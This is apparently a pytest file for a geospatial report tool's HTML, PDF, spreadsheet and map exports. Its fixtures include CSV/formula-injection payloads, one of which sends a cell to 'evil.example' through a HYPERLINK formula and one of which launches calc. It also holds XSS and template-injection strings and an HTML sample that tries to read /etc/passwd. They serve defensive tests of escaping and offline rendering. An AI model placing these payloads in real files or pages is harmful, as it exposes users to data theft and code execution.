"""The gap report and its exports, on the tiny mirror (answers checkable by hand)."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import zipfile

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely
from pypdf import PdfReader

from geo.config import Settings
from geo.exports import read_csv
from geo.params import Parameters
from geo.pipeline import run_analysis
from geo.report import (
    export_bytes,
    export_files,
    export_tables,
    report_html,
    report_pdf,
    staticmaps,
    tables,
)
from geo.report.downloads import ReportExportError, check_formats
from geo.report.render import html_to_pdf, offline_fetcher
from tests.tiny_mirror import X0, Y0, write_mirror

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 161 000 0000",
    "-2+3",
    "line one\rline two",
    'He said "hello", then left',
    "<img src=x onerror=alert(1)>",
    "${alert(1)}",
    "`backtick` Café £5 – naïve",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def tiny_result(tmp_path_factory):
    root = tmp_path_factory.mktemp("report")
    sources = write_mirror(root / "mirror")
    settings = Settings(sources_file=sources, offline=True, cache_dir=root / "cache")
    return run_analysis("Testham", Parameters(permutations=99), settings=settings)


@pytest.fixture(scope="module")
def hostile_result(tiny_result):
    """The tiny result with hostile asset names and addresses, and a hostile ward name."""
    assets = tiny_result.assets
    n = len(HOSTILE)
    extra = gpd.GeoDataFrame(
        {
            "asset_id": [f"hostile:{i}" for i in range(n)],
            "name": HOSTILE,
            "category": ["library"] * n,
            "source": ["test_libraries"] * n,
            "address": list(reversed(HOSTILE)),
            "capacity": [np.nan] * n,
            "tags": ["{}"] * n,
            "in_region": [True] * n,
        },
        geometry=[shapely.Point(X0 + 100 + 250 * i, Y0 + 2900) for i in range(n)],
        crs="EPSG:27700",
    )
    both = pd.concat([assets, extra[assets.columns]], ignore_index=True)
    areas = tiny_result.areas.copy()
    first = areas.sort_values("priority_rank").index[0]
    areas.loc[first, "ward_name"] = "<script>alert('ward')</script> ${alert(2)}"
    return tiny_result.replace(assets=gpd.GeoDataFrame(both, crs=assets.crs), areas=areas)


@pytest.fixture(scope="module")
def rendered(hostile_result):
    html = report_html(hostile_result)
    return html, report_pdf(hostile_result, html=html)


def _pdf_text(pdf: bytes) -> tuple[PdfReader, str]:
    reader = PdfReader(io.BytesIO(pdf))
    return reader, "\n".join(page.extract_text() for page in reader.pages)


# ---------------------------------------------------------------------------
# HTML
# ---------------------------------------------------------------------------


def test_html_is_self_contained_with_nothing_to_fetch(rendered):
    html, _ = rendered
    assert html.startswith("<!DOCTYPE html>")
    assert "<script" not in html.lower()
    assert "default-src 'none'; img-src data:" in html  # CSP: no script, no remote resource
    sources = re.findall(r'(?:src|href)="([^"]*)"', html)
    assert sources, "expected images and links"
    for value in sources:
        assert value.startswith(("data:image/png;base64,", "#")), value[:60]
    assert len(re.findall(r'<img src="data:image/png;base64,', html)) == 4  # four maps
    assert "@font-face" not in html and "url(" not in html
    assert "<style>" in html  # the stylesheet is inline


def test_html_escapes_hostile_names(rendered):
    html, _ = rendered
    assert "<img src=x" not in html
    assert "<script>alert" not in html
    assert "${alert" not in html and "`backtick`" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "&#36;&#123;alert(1)&#125;" in html
    assert "&lt;script&gt;alert(&#x27;ward&#x27;)&lt;/script&gt;" in html
    assert "&#96;backtick&#96; Café £5 – naïve" in html


# ---------------------------------------------------------------------------
# PDF
# ---------------------------------------------------------------------------


def test_pdf_opens_a4_with_page_numbers_area_and_ranked_rows(rendered, hostile_result):
    _, pdf = rendered
    assert pdf.startswith(b"%PDF-")
    reader, text = _pdf_text(pdf)
    n = len(reader.pages)
    assert n >= 6
    box = reader.pages[0].mediabox
    assert float(box.width) == pytest.approx(595.3, abs=0.5)  # A4 in points
    assert float(box.height) == pytest.approx(841.9, abs=0.5)
    assert f"Page 1 of {n}" in text and f"Page {n} of {n}" in text
    assert "Testham" in reader.pages[0].extract_text()
    assert reader.metadata.title == "Loneliness risk and community provision: Testham"
    # the ranked table: priority gap areas in priority-rank order, as analyse writes them
    table = hostile_result.table()
    expected = table[table["is_priority"]].sort_values("priority_rank")["lsoa21cd"].tolist()
    assert expected, "the tiny mirror has priority gap areas"
    ranked = text[text.index("Priority gap areas, ranked", text.index("Contents") + 200) :]
    positions = [ranked.index(code) for code in expected]
    assert positions == sorted(positions)
    # hostile strings are shown as text
    assert "<img src=x onerror=alert(1)>" in text


def test_pdf_rendering_fetches_nothing(monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("the report tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    html = (
        "<html><head><link rel=stylesheet href='http://127.0.0.1:9/x.css'>"
        "<style>@import url(https://example.invalid/a.css); "
        "p { background: url(file:///etc/passwd) }</style></head><body>"
        "<p>Hello</p><img src='https://example.invalid/tracker.png'>"
        "<img src='file:///etc/hostname'></body></html>"
    )
    fetcher = offline_fetcher()
    import weasyprint

    pdf = weasyprint.HTML(string=html, url_fetcher=fetcher).write_pdf()
    assert pdf.startswith(b"%PDF-")
    assert any(u.startswith("http://127.0.0.1") for u in fetcher.refused)
    assert any(u.startswith("https://example.invalid/tracker") for u in fetcher.refused)
    assert any(u.startswith("file:///etc/") for u in fetcher.refused)
    # and the function the report uses builds its own refusing fetcher
    assert html_to_pdf(html).startswith(b"%PDF-")


# ---------------------------------------------------------------------------
# Tables and maps
# ---------------------------------------------------------------------------


def test_nearest_asset_is_the_one_provision_measured(tiny_result):
    near = tables.nearest_assets(tiny_result)
    assert np.allclose(near["nearest_asset_m"], tiny_result.areas["nearest_any_m"], atol=1e-6)
    # the library in the centre-left square is the nearest for E01900001
    assert near.loc["E01900001", "nearest_asset_name"] == "Testham Library"
    assert near.loc["E01900001", "nearest_asset_category"] == "Library"


def test_priority_and_equity_tables(tiny_result):
    priority = tables.priority_table(tiny_result)
    areas = tiny_result.areas
    assert list(priority["lsoa21cd"]) == list(
        areas[areas["is_priority"]].sort_values("priority_rank").index
    )
    assert priority["priority_rank"].is_monotonic_increasing
    assert (priority["drivers"].str.len() > 0).all()
    equity = tables.equity_table(tiny_result)
    first = equity.iloc[0]
    assert first["group"] == "All residents"
    gap_pop = areas.loc[areas["is_priority"], "population"].sum()
    assert first["in_gap_areas"] == pytest.approx(gap_pop)
    assert first["share_gap"] == pytest.approx(gap_pop / areas["population"].sum())


def test_equity_shares_are_weighted_by_each_tables_own_total():
    from types import SimpleNamespace

    areas = pd.DataFrame(
        {
            "population": [100.0, 300.0],
            "carers": [10.0, 30.0],
            "pct_carers": [0.2, 0.1],  # denominators 50 and 300 (residents aged 5+)
            "is_priority": [True, False],
            "priority_rank": [1, 2],
        },
        index=pd.Index(["A", "B"], name="lsoa21cd"),
    )
    table = tables.equity_table(SimpleNamespace(areas=areas)).set_index("group")
    carers = table.loc["Unpaid carers (5+)"]
    assert carers["share_gap"] == pytest.approx(0.2)
    assert carers["share_all"] == pytest.approx(40 / 350)
    assert carers["ratio"] == pytest.approx(0.2 / (40 / 350))


def test_scale_bar_lengths_are_round():
    assert staticmaps.nice_length(2_600) == 2_500
    assert staticmaps.nice_length(1_900) == 1_000
    assert staticmaps.nice_length(7_300) == 5_000
    assert staticmaps.nice_length(430) == 250


def test_maps_are_pngs_for_every_panel(tiny_result):
    maps = staticmaps.all_maps(tiny_result)
    assert set(maps) == {"risk", "access", "gaps", "assets"}
    for png in maps.values():
        assert png.startswith(b"\x89PNG")


# ---------------------------------------------------------------------------
# Exports
# ---------------------------------------------------------------------------


def test_export_files_every_format_with_provenance(hostile_result, tmp_path):
    paths = export_files(hostile_result, tmp_path, ["xlsx", "gpkg", "geojson", "csv"])
    names = {p.name for p in paths}
    stem = "belonging-atlas-E09999901-testham"
    assert f"{stem}.xlsx" in names and f"{stem}.gpkg" in names
    assert f"{stem}-areas.geojson" in names and f"{stem}-areas.metadata.json" in names
    assert f"{stem}-areas.csv" in names and f"{stem}-metadata.csv" in names
    assert not list(tmp_path.glob(".partial-*"))  # nothing half-written left behind
    n_areas = len(hostile_result.areas)
    n_priority = int(hostile_result.areas["is_priority"].sum())
    n_assets = len(hostile_result.assets)

    book = openpyxl.load_workbook(tmp_path / f"{stem}.xlsx")
    assert book.sheetnames == [
        "areas",
        "priority_gaps",
        "assets",
        "wards",
        "dictionary",
        "metadata",
    ]
    assert book["areas"].max_row == n_areas + 1
    assert book["priority_gaps"].max_row == n_priority + 1
    assert book["assets"].max_row == n_assets + 1
    meta = pd.read_excel(tmp_path / f"{stem}.xlsx", sheet_name="metadata")
    rows = meta[meta["kind"] == "rows"].set_index("name")["rows"].to_dict()
    assert rows == {"areas": n_areas, "priority_gaps": n_priority, "assets": n_assets}
    assert "iod2025" in set(meta.loc[meta["kind"] == "source", "name"])
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"

    gpkg = tmp_path / f"{stem}.gpkg"
    layers = dict(pyogrio.list_layers(gpkg))
    assert set(layers) == {"areas", "assets", "priority_gaps", "metadata"}
    for layer, n in (("areas", n_areas), ("assets", n_assets), ("priority_gaps", n_priority)):
        back = gpd.read_file(gpkg, layer=layer)
        assert len(back) == n and back.crs.to_epsg() == 27700, layer
    back = gpd.read_file(gpkg, layer="areas")
    assert {"risk_score", "access_e2sfca", "gap_class", "nearest_asset_name"} <= set(back.columns)
    assert len(pyogrio.read_dataframe(gpkg, layer="metadata")) == len(meta)

    geojson = tmp_path / f"{stem}-areas.geojson"
    assert gpd.read_file(geojson).crs.to_epsg() == 4326
    collection = json.loads(geojson.read_text(encoding="utf-8"))
    assert len(collection["features"]) == n_areas
    carried = collection["metadata"]["sources_parameters_rows"]
    assert {"kind": "rows", "name": "areas"}.items() <= next(
        r for r in carried if r["kind"] == "rows" and r["name"] == "areas"
    ).items()


def test_csv_round_trip_keeps_hostile_cells_and_leaves_them_inert(hostile_result, tmp_path):
    export_files(hostile_result, tmp_path, ["csv"])
    path = tmp_path / "belonging-atlas-E09999901-testham-assets.csv"
    back = read_csv(path).set_index("asset_id")
    for i, original in enumerate(HOSTILE):
        written = back.loc[f"hostile:{i}", "name"]
        expected = "'" + original if original.startswith(TRIGGERS) else original
        assert written == expected, (original, written)
        assert back.loc[f"hostile:{i}", "address"].removeprefix("'") == HOSTILE[-1 - i]
    with path.open(encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    meta = read_csv(tmp_path / "belonging-atlas-E09999901-testham-metadata.csv")
    assert int(meta.loc[meta["name"] == "assets", "rows"].iloc[0]) == len(hostile_result.assets)


def test_export_bytes_for_download_buttons(hostile_result, tmp_path):
    content, name, mime = export_bytes(hostile_result, "xlsx")
    assert name.endswith(".xlsx") and mime.startswith("application/vnd.openxml")
    assert openpyxl.load_workbook(io.BytesIO(content)).sheetnames[-1] == "metadata"

    content, name, mime = export_bytes(hostile_result, "csv")
    assert mime == "application/zip" and name.endswith("-csv.zip")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = sorted(archive.namelist())
    stem = "belonging-atlas-E09999901-testham-"
    assert members == [
        f"{stem}{part}.csv" for part in ("areas", "assets", "metadata", "priority-gaps")
    ]

    content, name, mime = export_bytes(hostile_result, "gpkg")
    (tmp_path / name).write_bytes(content)
    assert "priority_gaps" in dict(pyogrio.list_layers(tmp_path / name))

    content, name, mime = export_bytes(hostile_result, "geojson")
    assert mime == "application/geo+json"
    assert len(json.loads(content)["features"]) == len(hostile_result.areas)

    content, name, mime = export_bytes(hostile_result, "html")
    assert mime.startswith("text/html") and b"&lt;img src=x" in content


def test_unknown_format_is_a_clear_error():
    with pytest.raises(ReportExportError, match=r"Unknown report format.*odt.*pdf, html, docx"):
        check_formats(["pdf", "odt"])
    assert check_formats(["PDF", " html", "pdf"]) == ("pdf", "html")


def test_rank_labels_never_overlap():
    import math

    points = [(0.0, 0.0), (1.0, 0.0), (0.5, 0.5), (0.0, 1.0), (10.0, 10.0)]
    placed = staticmaps.label_positions(points, spacing=2.0)
    assert placed[0] == points[0]  # the first label keeps its place
    assert placed[-1] == points[-1]  # a label far from the others stays on its point
    for i, a in enumerate(placed):
        for b in placed[i + 1 :]:
            assert math.hypot(a[0] - b[0], a[1] - b[1]) >= 2.0 - 1e-9


# ---------------------------------------------------------------------------
# Page 1, numbering, wards, accessibility and the analyst's workbook
# ---------------------------------------------------------------------------


def test_page_one_names_the_wards_of_the_first_priority_areas(rendered, tiny_result):
    _, pdf = rendered
    reader = PdfReader(io.BytesIO(pdf))
    first = reader.pages[0].extract_text()
    areas = tiny_result.areas
    priority = areas[areas["is_priority"].astype(bool)].sort_values("priority_rank")
    assert len(priority)
    for ward in priority["ward_name"].drop_duplicates().head(2):
        assert ward in first, ward
    assert "What to consider" in first and "What a gap means here" in first
    assert "E2SFCA catchment" not in first  # parameters live in the method appendix


def test_priority_numbers_are_consecutive_in_table_map_and_export(tiny_result):
    from geo.report.wards import priority_order

    numbers = priority_order(tiny_result).dropna().astype(int)
    assert sorted(numbers) == list(range(1, len(numbers) + 1))
    areas = tiny_result.areas.loc[numbers.index]
    assert list(numbers.sort_values().index) == list(areas.sort_values("priority_rank").index)
    exported = export_tables(tiny_result)["priority_gaps"]
    assert list(exported["priority_number"]) == list(range(1, len(exported) + 1))


def test_ward_summary_adds_up_to_the_area(tiny_result):
    from geo.report.wards import ward_summary

    table = ward_summary(tiny_result)
    areas = tiny_result.areas
    assert table["residents"].sum() == pytest.approx(areas["population"].sum())
    assert table["priority_areas"].sum() == int(areas["is_priority"].sum())
    assert table["areas"].sum() == len(areas)
    assert table["priority_areas"].is_monotonic_decreasing


def test_pdf_is_tagged_with_language_title_and_alt_text(rendered):
    html, pdf = rendered
    reader = PdfReader(io.BytesIO(pdf))
    root = reader.trailer["/Root"]
    assert "/StructTreeRoot" in root and "/MarkInfo" in root
    assert bool(root["/MarkInfo"]["/Marked"])
    assert str(root["/Lang"]) == "en-GB"
    alts = re.findall(r'<img src="data:image/png;base64,[^"]*" alt="([^"]+)"', html)
    assert len(alts) == 4 and all("small areas" in a for a in alts)
    assert len(_figure_alts(root["/StructTreeRoot"])) >= 4


def _figure_alts(node, seen=None) -> list[str]:
    """Alternative texts of the Figure elements in a PDF structure tree."""
    seen = set() if seen is None else seen
    node = node.get_object() if hasattr(node, "get_object") else node
    if id(node) in seen:
        return []
    seen.add(id(node))
    found = []
    if isinstance(node, dict):
        if node.get("/S") == "/Figure" and "/Alt" in node:
            found.append(str(node["/Alt"]))
        kids = node.get("/K")
        if kids is not None:
            found += _figure_alts(kids, seen)
    elif isinstance(node, list):
        for kid in node:
            found += _figure_alts(kid, seen)
    return found


def test_workbook_is_ready_for_analysts(hostile_result, tmp_path):
    (path,) = export_files(hostile_result, tmp_path, ["xlsx"])
    book = openpyxl.load_workbook(path)
    for name in ("areas", "priority_gaps", "assets", "wards", "dictionary", "metadata"):
        sheet = book[name]
        assert sheet.freeze_panes == "A2", name
        assert sheet.auto_filter.ref == sheet.dimensions, name
    areas = book["areas"]
    header = [c.value for c in areas[1]]
    formats = {h: areas.cell(row=2, column=i + 1).number_format for i, h in enumerate(header)}
    assert formats["access_percentile"] == "0.0%"
    assert formats["nearest_any_m"] == "#,##0"
    assert formats["risk_score"] == "0.00" and formats["gap_score"] == "0.00"
    assert formats["population"] == "#,##0"
    assert areas.column_dimensions["A"].width >= len("lsoa21cd")
    for sheet in book.worksheets:  # no column without a value
        for column in sheet.iter_cols(min_row=2, values_only=True):
            assert any(v not in (None, "") for v in column), sheet.title
    dictionary = list(book["dictionary"].iter_rows(values_only=True))
    assert dictionary[0] == ("sheet", "column", "meaning", "unit", "source")
    described = {(r[0], r[1]): r for r in dictionary[1:]}
    for sheet in ("areas", "priority_gaps", "assets", "wards"):
        columns = [c.value for c in book[sheet][1]]
        assert all((sheet, c) in described for c in columns), sheet
    assert described[("areas", "nearest_any_m")][3] == "metres"
    meta = list(book["metadata"].iter_rows(values_only=True))
    for row in meta[1:]:
        value = "" if row[2] is None else str(row[2])
        assert not value.startswith('"'), row
        for place in str(row[6] or "").split(";"):  # a URL or a file name, no local folder
            assert "://" in place or ("/" not in place and "\\" not in place), row


def test_geojson_coordinates_have_six_decimals(tiny_result, tmp_path):
    paths = export_files(tiny_result, tmp_path, ["geojson"])
    areas = next(p for p in paths if p.name.endswith("-areas.geojson"))
    numbers = re.findall(
        r"-?\d+\.(\d+)", json.dumps(json.loads(areas.read_text())["features"][0]["geometry"])
    )
    assert numbers and max(len(n) for n in numbers) <= 6


def test_directory_groups_assets_by_ward_with_readable_sources(tiny_result):
    from geo.report.directory import directory_table

    table = directory_table(tiny_result)
    inside = tiny_result.assets["in_region"].fillna(False).astype(bool)
    assert len(table) == int(inside.sum())
    assert set(table["ward"]) <= set(tiny_result.areas["ward_name"]) | {"(ward not known)"}
    titles = {r.dataset: r.title for r in tiny_result.provenance}
    assert set(table["source_title"]) <= set(titles.values())
    assert (table["priority_distance_m"].dropna() >= 0).all()
    priority = tiny_result.areas[tiny_result.areas["is_priority"].astype(bool)]
    assets = tiny_result.assets.set_index("asset_id").loc[table["asset_id"]]
    expected = assets.geometry.distance(priority.geometry.union_all()).round(0)
    assert list(table["priority_distance_m"]) == list(expected)


def test_word_report_opens_and_holds_the_summary_tables_and_maps(tiny_result, tmp_path):
    import docx

    (path,) = export_files(tiny_result, tmp_path, ["docx"])
    document = docx.Document(str(path))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "The places with the largest gaps" in text and "What to consider" in text
    areas = tiny_result.areas
    first = areas[areas["is_priority"].astype(bool)].sort_values("priority_rank")
    assert first["ward_name"].iloc[0] in text
    assert len(document.inline_shapes) == 4
    alts = [s._inline.docPr.get("descr") for s in document.inline_shapes]
    assert all(a and "small areas" in a for a in alts)
    cells = {c.text for t in document.tables for row in t.rows for c in row.cells}
    assert {"Ward", "Residents", "Priority areas"} <= cells
    content, name, mime = export_bytes(tiny_result, "docx")
    assert name.endswith(".docx") and mime.endswith("wordprocessingml.document")
    assert docx.Document(io.BytesIO(content)).paragraphs


def test_no_page_but_the_last_is_less_than_a_third_full(rendered, tmp_path):
    import shutil
    import subprocess

    from PIL import Image

    if shutil.which("pdftoppm") is None:
        pytest.skip("pdftoppm (poppler-utils) is not installed")
    _, pdf = rendered
    (tmp_path / "report.pdf").write_bytes(pdf)
    subprocess.run(["pdftoppm", "-r", "30", "-gray", str(tmp_path / "report.pdf"),
                    str(tmp_path / "page")], check=True, timeout=120)  # fmt: skip
    pages = sorted(tmp_path.glob("page-*.pgm"))
    assert len(pages) == len(PdfReader(io.BytesIO(pdf)).pages)
    for page in pages[:-1]:
        ink = np.asarray(Image.open(page)) < 200
        rows = np.flatnonzero(ink.any(axis=1))
        body = rows[rows < ink.shape[0] * 0.93]  # above the page-number footer
        assert len(body) and body.max() / ink.shape[0] > 1 / 3, page.name
